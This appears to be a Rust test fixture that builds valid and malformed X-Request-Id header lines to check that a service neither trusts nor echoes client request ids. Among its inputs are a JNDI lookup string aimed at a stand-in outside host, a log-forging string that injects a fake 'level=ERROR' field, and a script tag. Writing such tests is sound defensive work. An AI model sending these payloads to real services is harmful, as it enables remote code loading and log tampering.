//! Ids that clients give their requests: one that is valid, and those that no program should believe.

/// The line of a valid id, which belongs into the record and never into an answer.
pub(super) fn valid(number: u64) -> String {
    format!("X-Request-Id: planted-secret-{number}")
}

/// The lines of an id that is none, or of two.
pub(super) fn lines(number: u64) -> Vec<Vec<u8>> {
    let id = |value: &[u8]| [b"X-Request-Id: ", value].concat();
    match number % 9 {
        0 => vec![id(&b"planted-secret".repeat(5))],
        1 => vec![id(&b"planted-secret".repeat(500))],
        2 => vec![id(b"${jndi:ldap://planted-secret.example/x}")],
        3 => vec![id(b"\xFF\xFEplanted-secret\x80")],
        4 => vec![id(b"<script>planted-secret</script>")],
        5 => vec![id(b"x\" level=ERROR user=planted-secret")],
        6 => vec![id(b"planted-secret\tb")],
        7 => vec![id(b"")],
        _ => vec![id(b"planted-secret-one"), id(b"planted-secret-two")],
    }
}
